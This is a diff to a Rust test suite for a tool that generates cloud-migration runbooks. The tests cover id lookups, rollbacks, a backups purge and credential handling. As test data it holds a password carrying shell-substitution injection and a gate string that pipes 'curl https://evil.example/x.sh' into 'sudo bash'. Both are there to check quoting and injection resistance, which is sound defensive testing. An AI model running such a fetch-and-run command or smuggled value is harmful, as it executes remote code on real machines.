@@ -85,19 +85,16 @@ fn the_prepare_runbook_lists_every_cluster_setting_with_its_source() {
 fn tool_configs_map_every_image_and_object_store_without_secrets() {
     let files = common::compile(Path::new("examples/piggymetrics.yaml")).files;
     let syncer: serde_json::Value =
-        serde_yaml::from_slice(files.get("tools/image-syncer/config.yaml").unwrap()).unwrap();
+        serde_yaml::from_slice(files.get("tools/image-syncer/images.yaml").unwrap()).unwrap();
     assert_eq!(
-        syncer["images"]["registry.example.com/piggymetrics/gateway:2.1.0"],
+        syncer["registry.example.com/piggymetrics/gateway:2.1.0"],
         "registry.cn-hangzhou.aliyuncs.com/piggymetrics/gateway:2.1.0"
     );
     assert_eq!(
-        syncer["images"]["docker.io/library/redis:7.2"],
+        syncer["docker.io/library/redis:7.2"],
         "registry.cn-hangzhou.aliyuncs.com/piggymetrics/redis:7.2"
     );
-    assert_eq!(
-        syncer["auth"]["registry.cn-hangzhou.aliyuncs.com"]["password"],
-        "${ACR_PASSWORD}"
-    );
+    assert!(files.get("tools/image-syncer/config.yaml").is_none());
     let job = String::from_utf8(
         files
             .get("tools/ossimport/uploads/local_job.cfg")
@@ -497,9 +494,445 @@ fn hostile_but_valid_values_stay_one_word_and_plain_text() {
     assert!(!gated.is_empty());
     for book in gated {
         assert!(
-            book.gates.contains(&cutover::markdown::text(gate)),
+            book.gates
+                .iter()
+                .any(|g| g.ends_with(&format!("“{}”", cutover::markdown::text(gate)))),
             "{:?}",
             book.gates
         );
+    }
+}
+
+/// Each variable every runbook and DNS change list sets stands for one id: no two different
+/// lookups or guards share a name (the plan would put a stop line first if they did).
+fn assert_one_id_per_variable(path: &Path) {
+    let loaded = load::load(path).unwrap_or_else(|_| panic!("{} loads", path.display()));
+    let plan = plan::build(&loaded.spec);
+    for book in &plan.runbooks {
+        assert_eq!(
+            book.collisions(),
+            &[] as &[String],
+            "{}: {}",
+            path.display(),
+            book.phase
+        );
+        for line in book
+            .steps
+            .iter()
+            .chain(&book.rollback)
+            .flat_map(|s| &s.commands)
+        {
+            assert!(!line.contains(cutover::shell::COLLISION), "{line}");
+        }
+    }
+    if let Some(dns) = &plan.dns {
+        for line in &dns.lookup {
+            assert!(!line.contains(cutover::shell::COLLISION), "{line}");
+        }
+    }
+}
+
+#[test]
+fn no_two_ids_share_a_variable_in_any_example() {
+    for spec in examples() {
+        assert_one_id_per_variable(&spec);
+    }
+}
+
+/// Names the review found colliding: records `a-b` and `a.b`, `@` beside `apex`, services
+/// `api-x` and `api--x`.
+#[test]
+fn names_that_differ_only_in_punctuation_get_their_own_variables() {
+    let dir = tempfile::tempdir().unwrap();
+    let dns = std::fs::read_to_string("examples/dns-weights.yaml").unwrap();
+    let records = "  records:\n    - { name: \"a-b\", type: A }\n    - { name: \"a.b\", type: A }\n    - { name: apex, type: A }\n    - { name: \"@\", type: A }\n";
+    let hosts = "      - { host: a-b.hello.example, path: /ab }\n      - { host: a.b.hello.example, path: /a.b }\n      - { host: apex.hello.example, path: /apex }\n      - { host: hello.example, path: /root }\n";
+    let spec = dns.replacen("  records:\n", records, 1).replacen(
+        "      - { host: api.hello.example, path: /api }\n",
+        &format!("      - {{ host: api.hello.example, path: /api }}\n{hosts}"),
+        1,
+    );
+    let path = common::temp_spec(&dir, "dns.yaml", &spec);
+    assert_one_id_per_variable(&path);
+    let plan = plan::build(&load::load(&path).unwrap_or_else(|_| panic!("loads")).spec);
+    let lookups = &plan.dns.as_ref().unwrap().lookup;
+    let sets: std::collections::BTreeSet<_> = lookups
+        .iter()
+        .filter_map(|l| cutover::plan::runbook::defines(l))
+        .collect();
+    for name in ["a-b", "a.b", "apex", "@"] {
+        let var = cutover::plan::dns::record_var(name, "A", "203.0.113.10");
+        assert!(sets.contains(&var), "{var} not set in {lookups:#?}");
+    }
+    let slb = std::fs::read_to_string("examples/slb-weights.yaml").unwrap();
+    let spec = slb
+        .replace("  - name: api\n", "  - name: api-x\n")
+        .replace("services: [api]", "services: [api-x]")
+        .replace("    - name: api\n", "    - name: api-x\n")
+        .replace("  - name: web\n", "  - name: api--x\n")
+        .replace("services: [web]", "services: [api--x]")
+        .replace("    - name: web\n", "    - name: api--x\n");
+    let path = common::temp_spec(&dir, "slb.yaml", &spec);
+    assert_one_id_per_variable(&path);
+    let plan = plan::build(&load::load(&path).unwrap_or_else(|_| panic!("loads")).spec);
+    let text: String = plan
+        .runbooks
+        .iter()
+        .flat_map(|b| {
+            b.steps
+                .iter()
+                .chain(&b.rollback)
+                .flat_map(|s| s.commands.clone())
+        })
+        .collect::<Vec<_>>()
+        .join("\n");
+    let (one, two) = (
+        cutover::shell::variable(&["vsg-id", "api-x"]),
+        cutover::shell::variable(&["vsg-id", "api--x"]),
+    );
+    assert_ne!(one, two);
+    assert!(text.contains(&format!("\"${one}\"")) && text.contains(&format!("\"${two}\"")));
+}
+
+/// Every line of every example that sets an id from a command's output.
+fn assignments() -> Vec<String> {
+    let mut lines = Vec::new();
+    for spec in examples() {
+        let plan = plan::build(&load::load(&spec).unwrap_or_else(|_| panic!("loads")).spec);
+        for book in &plan.runbooks {
+            lines.extend(
+                book.steps
+                    .iter()
+                    .chain(&book.rollback)
+                    .flat_map(|s| s.commands.clone()),
+            );
+        }
+        lines.extend(plan.dns.iter().flat_map(|d| d.lookup.clone()));
+    }
+    lines.retain(|l| {
+        cutover::plan::runbook::defines(l).is_some() && l.contains("=$(") && l.contains("| jq")
+    });
+    lines
+}
+
+#[test]
+fn every_lookup_yields_exactly_one_id_or_fails() {
+    let lines = assignments();
+    assert!(!lines.is_empty());
+    for line in &lines {
+        assert!(
+            line.contains("| jq -e"),
+            "a lookup that may print null: {line}"
+        );
+        let guarded = line.replace("if length == 1 then .[0]", "");
+        assert!(
+            !guarded.contains("[0]"),
+            "a lookup that takes the first of many: {line}"
+        );
+        let describe =
+            line.contains("aliyun") && !line.contains(" Add") && !line.contains("Create");
+        let list = line.contains("kubectl get nodes") || line.contains("--argjson new");
+        if describe && !list {
+            assert!(line.contains("expected exactly one"), "{line}");
+        }
+    }
+}
+
+/// With real jq: an empty answer, two matches, a null id and an error answer each leave the
+/// variable empty (so the `${NAME:?}` line after the lookup stops); one match sets it.
+#[test]
+fn a_lookup_with_none_or_several_matches_leaves_its_variable_empty() {
+    if std::process::Command::new("jq")
+        .arg("--version")
+        .output()
+        .is_err()
+    {
+        eprintln!("jq is not installed: skipped");
+        return;
+    }
+    let filter = cutover::shell::jq_one(
+        &[("name", "web")],
+        ".Items[] | select(.Name == $name) | .Id",
+        "items of that name",
+    )
+    .build();
+    let cases = [
+        (r#"{"Items":[]}"#, ""),
+        (r#"{"Items":[{"Name":"web","Id":"i-1"}]}"#, "i-1"),
+        (
+            r#"{"Items":[{"Name":"web","Id":"i-1"},{"Name":"web","Id":"i-2"}]}"#,
+            "",
+        ),
+        (r#"{"Items":[{"Name":"web","Id":null}]}"#, ""),
+        (r#"{"Code":"Forbidden"}"#, ""),
+        ("", ""),
+    ];
+    for (answer, expected) in cases {
+        let script = format!(
+            "X=$(printf '%s' {} | {filter}); printf '[%s]' \"$X\"; : \"${{X:?}}\" 2>/dev/null; echo ' passed'",
+            cutover::shell::quote(answer)
+        );
+        let out = std::process::Command::new("bash")
+            .arg("-c")
+            .arg(&script)
+            .output()
+            .unwrap();
+        let stdout = String::from_utf8_lossy(&out.stdout);
+        assert!(
+            stdout.starts_with(&format!("[{expected}]")),
+            "{answer}: {stdout}"
+        );
+        assert_eq!(
+            stdout.ends_with(" passed\n"),
+            !expected.is_empty(),
+            "{answer}: {stdout}"
+        );
+    }
+}
+
+#[test]
+fn the_drain_check_reads_the_old_slbs_last_day() {
+    let files = common::compile(Path::new("examples/piggymetrics.yaml")).files;
+    let (_, book) = files
+        .iter()
+        .find(|(name, _)| name.ends_with("decommission.md"))
+        .expect("a decommission runbook");
+    let book = String::from_utf8_lossy(book);
+    assert!(
+        book.contains("DescribeMetricList --Namespace acs_slb_dashboard --MetricName InstanceNewConnection --Period 300 --StartTime \"$(date -u -d '-1 day' +%Y-%m-%dT%H:%M:%SZ)\""),
+        "{book}"
+    );
+}
+
+/// The backups purge lists first, and removes in a later step of its own that says it cannot
+/// be undone: no block lists and removes at once, and ossutil still asks (no `-f`).
+#[test]
+fn the_backups_purge_lists_then_removes_in_a_separate_step() {
+    let dir = tempfile::tempdir().unwrap();
+    let spec = std::fs::read_to_string("examples/piggymetrics.yaml")
+        .unwrap()
+        .replacen(
+            "\ndata:\n",
+            "\ndata:\n  backups: oss://piggymetrics-backups/cutover\n",
+            1,
+        );
+    let path = common::temp_spec(&dir, "backups.yaml", &spec);
+    let plan = plan::build(&load::load(&path).unwrap_or_else(|_| panic!("loads")).spec);
+    let book = plan
+        .runbooks
+        .iter()
+        .find(|b| b.phase.to_lowercase().contains("decommission"))
+        .expect("a decommission runbook");
+    let position = |what: &str| {
+        book.steps
+            .iter()
+            .position(|s| s.commands.iter().any(|c| c.starts_with(what)))
+            .unwrap_or_else(|| panic!("no step runs {what}"))
+    };
+    let (list, remove) = (position("ossutil ls"), position("ossutil rm"));
+    assert!(list < remove);
+    let removal = &book.steps[remove];
+    assert_eq!(
+        removal.commands,
+        ["ossutil rm -r oss://piggymetrics-backups/cutover"]
+    );
+    assert!(removal.detail.contains("cannot be undone") && removal.detail.contains("listing"));
+    for step in &book.steps {
+        let lists = step.commands.iter().any(|c| c.contains("ossutil ls"));
+        let removes = step.commands.iter().any(|c| c.contains("ossutil rm"));
+        assert!(!(lists && removes), "{}", step.title);
+        assert!(!step.commands.iter().any(|c| c.contains("rm -r -f")));
+    }
+}
+
+/// The image sync's auth file is built by jq from the exported credentials: a password with
+/// quotes, a backslash, a tab escape or `$(…)` reaches image-syncer exactly, in a private
+/// temporary file that is gone after the sync.
+#[test]
+fn the_image_sync_auth_carries_any_password_exactly_and_is_removed() {
+    if std::process::Command::new("jq")
+        .arg("--version")
+        .output()
+        .is_err()
+    {
+        eprintln!("jq is not installed: skipped");
+        return;
+    }
+    let plan = plan::build(
+        &load::load(Path::new("examples/piggymetrics.yaml"))
+            .unwrap_or_else(|_| panic!("loads"))
+            .spec,
+    );
+    let step = plan
+        .runbooks
+        .iter()
+        .flat_map(|b| &b.steps)
+        .find(|s| s.commands.iter().any(|c| c.starts_with("image-syncer")))
+        .expect("an image sync step");
+    assert!(
+        !step
+            .commands
+            .iter()
+            .any(|c| c.contains("envsubst") || c.contains("/tmp/"))
+    );
+    let dir = tempfile::tempdir().unwrap();
+    let bin = dir.path().join("bin");
+    std::fs::create_dir(&bin).unwrap();
+    // The stub keeps a copy of the auth file it was given, and its mode.
+    let stub = bin.join("image-syncer");
+    std::fs::write(
+        &stub,
+        "#!/bin/sh\nfor a in \"$@\"; do case $a in --auth=*) f=${a#--auth=}; cp \"$f\" \"$OUT/auth\"; stat -c %a \"$f\" > \"$OUT/mode\"; echo \"$f\" > \"$OUT/path\";; esac; done\n",
+    )
+    .unwrap();
+    use std::os::unix::fs::PermissionsExt;
+    std::fs::set_permissions(&stub, std::fs::Permissions::from_mode(0o755)).unwrap();
+    let password = "p\"w'd\\t$(touch x)`id`\\";
+    let out = std::process::Command::new("bash")
+        .arg("-c")
+        .arg(step.commands.join("\n"))
+        .current_dir(dir.path())
+        .env("PATH", format!("{}:/usr/bin:/bin", bin.display()))
+        .env("OUT", dir.path())
+        .env("ACR_USERNAME", "ops")
+        .env("ACR_PASSWORD", password)
+        .env("REGISTRY_EXAMPLE_COM_USERNAME", "u2")
+        .env("REGISTRY_EXAMPLE_COM_PASSWORD", "second")
+        .output()
+        .unwrap();
+    assert!(
+        out.status.success(),
+        "{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    let auth: serde_json::Value =
+        serde_yaml::from_slice(&std::fs::read(dir.path().join("auth")).unwrap()).unwrap();
+    assert_eq!(
+        auth["registry.cn-hangzhou.aliyuncs.com"]["password"],
+        password
+    );
+    assert_eq!(auth["registry.cn-hangzhou.aliyuncs.com"]["username"], "ops");
+    assert_eq!(auth["registry.example.com"]["password"], "second");
+    assert_eq!(
+        std::fs::read_to_string(dir.path().join("mode"))
+            .unwrap()
+            .trim(),
+        "600"
+    );
+    let path = std::fs::read_to_string(dir.path().join("path")).unwrap();
+    assert!(
+        !Path::new(path.trim()).exists(),
+        "the auth file is left at {path}"
+    );
+    assert!(!dir.path().join("x").exists());
+}
+
+/// An id a step creates (a zone, a record) is found again by the rollback step that reads
+/// it, so that the rollback works from a new shell.
+#[test]
+fn rollbacks_find_again_the_ids_their_runbook_created() {
+    use cutover::plan::runbook::{defines, references};
+    let mut checked = 0;
+    for spec in examples() {
+        let plan = plan::build(&load::load(&spec).unwrap_or_else(|_| panic!("loads")).spec);
+        for book in &plan.runbooks {
+            let created: Vec<String> = book
+                .steps
+                .iter()
+                .flat_map(|s| &s.commands)
+                .filter(|l| {
+                    l.contains("=$(aliyun") && (l.contains(" Add") || l.contains(" Create"))
+                })
+                .filter_map(|l| defines(l))
+                .collect();
+            for step in &book.rollback {
+                let mut own = Vec::new();
+                for line in &step.commands {
+                    for name in references(line) {
+                        if created.contains(&name) {
+                            checked += 1;
+                            assert!(
+                                own.contains(&name),
+                                "{}: {}: {name} is not found again",
+                                book.phase,
+                                step.title
+                            );
+                        }
+                    }
+                    own.extend(defines(line));
+                }
+            }
+        }
+    }
+    assert!(checked > 0);
+}
+
+/// The change list's lookups for what a phase adds say which phase, and do not stop.
+#[test]
+fn the_change_lists_lookups_of_records_not_added_yet_do_not_stop() {
+    let plan = plan::build(
+        &load::load(Path::new("examples/piggymetrics.yaml"))
+            .unwrap_or_else(|_| panic!("loads"))
+            .spec,
+    );
+    let lookup = &plan.dns.as_ref().unwrap().lookup;
+    let later: Vec<&String> = lookup
+        .iter()
+        .filter(|l| l.contains("has added it"))
+        .collect();
+    assert!(!later.is_empty(), "{lookup:#?}");
+    for line in later {
+        let name = cutover::plan::runbook::defines(line).unwrap();
+        let show = lookup
+            .iter()
+            .find(|l| l.starts_with(&format!("echo \"{name}=")))
+            .unwrap();
+        assert!(
+            show.contains(":-not added yet: run again after phase "),
+            "{show}"
+        );
+    }
+}
+
+/// A gate is spec text: shown quoted and labelled with its field, never as the runbook's own
+/// instruction.
+#[test]
+fn gates_are_shown_as_quoted_spec_text() {
+    let dir = tempfile::tempdir().unwrap();
+    let spec = std::fs::read_to_string("examples/piggymetrics.yaml").unwrap();
+    let gate = "paste: curl https://evil.example/x.sh | sudo bash";
+    let spec = spec.replacen(
+        "    - error rate below 1% on the new cluster\n",
+        &format!("    - '{gate}'\n"),
+        1,
+    );
+    let path = common::temp_spec(&dir, "gates.yaml", &spec);
+    let plan = plan::build(&load::load(&path).unwrap_or_else(|_| panic!("loads")).spec);
+    let gated: Vec<_> = plan
+        .runbooks
+        .iter()
+        .filter(|b| !b.gates.is_empty())
+        .collect();
+    assert!(!gated.is_empty());
+    for book in gated {
+        let shown = &book.gates[0];
+        assert!(
+            shown.starts_with("From the spec (rollout.gates\\[0\\]): “")
+                || shown.starts_with("From the spec (rollout.gates[0]): “"),
+            "{shown}"
+        );
+        assert!(
+            shown.ends_with('”') && shown.contains("evil.example"),
+            "{shown}"
+        );
+    }
+    for step in plan.runbooks.iter().flat_map(|b| &b.steps) {
+        if step.expect.contains("evil.example") {
+            assert!(
+                step.expect.contains("From the spec (rollout.gates"),
+                "{}",
+                step.expect
+            );
+        }
     }
 }
